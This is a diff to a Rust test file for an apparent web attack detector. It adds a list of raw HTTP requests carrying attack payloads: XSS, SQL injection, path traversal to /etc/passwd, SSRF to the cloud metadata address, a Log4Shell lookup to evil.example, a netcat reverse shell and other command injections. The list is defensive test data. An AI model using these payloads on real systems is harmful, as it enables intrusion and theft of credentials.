@@ -475,13 +475,33 @@ fn bare_word_form_body() {
     }
 }
 
+/// Attacks of the gated classes (and a few others) that the gate proof runs
+/// on even when the CRS corpus (../shared) is absent, as on a fresh clone.
+const GATE_ATTACKS: &[&str] = &[
+    "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /p?name=%22%3E%3Csvg/onload=alert(document.cookie)%3E HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /go?u=javascript:alert(1) HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /ping?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /ping?host=$(whoami) HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /ping?host=x%7Cnc%20-e%20/bin/sh%2010.0.0.1%204444 HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /file?name=../../../../etc/passwd HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a.example\r\nCookie: s=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7\r\n\r\n",
+    "POST /api/users HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/json\r\nContent-Length: 49\r\n\r\n{\"bio\":\"<img src=x onerror=alert(1)>\",\"n\":\"`id`\"}",
+];
+
 /// Every hit of the score corpus (CRS attack rows when present, the benign
-/// set always), in full, from a detector with or without its gates.
+/// set always) and of [`GATE_ATTACKS`], in full, from a detector with or
+/// without its gates.
 fn corpus_hits(gates: bool) -> Vec<String> {
     let mut d = Detector::new(raw::score_config());
     d.gates = gates;
     let mut out = vec![];
-    for (i, raw_req) in score_corpus().iter().enumerate() {
+    let mut corpus = score_corpus();
+    corpus.extend(GATE_ATTACKS.iter().map(|r| r.as_bytes().to_vec()));
+    for (i, raw_req) in corpus.iter().enumerate() {
         for t in raw::transactions(raw_req, raw::NEUTRAL_RESPONSE) {
             d.push(&t, &mut |r| {
                 if let Record::Attack(a) = r {
@@ -505,7 +525,12 @@ fn corpus_hits(gates: bool) -> Vec<String> {
 fn gates_keep_every_hit() {
     let gated = corpus_hits(true);
     let ungated = corpus_hits(false);
-    assert!(!ungated.is_empty(), "the corpus makes hits");
+    for class in ["\txss\t", "\trce\t", "\tsqli\t", "\tptrav\t", "\tssrf\t"] {
+        assert!(
+            ungated.iter().any(|h| h.contains(class)),
+            "the corpus makes {class:?} hits"
+        );
+    }
     assert_eq!(gated.len(), ungated.len());
     for (g, u) in gated.iter().zip(&ungated) {
         assert_eq!(g, u);
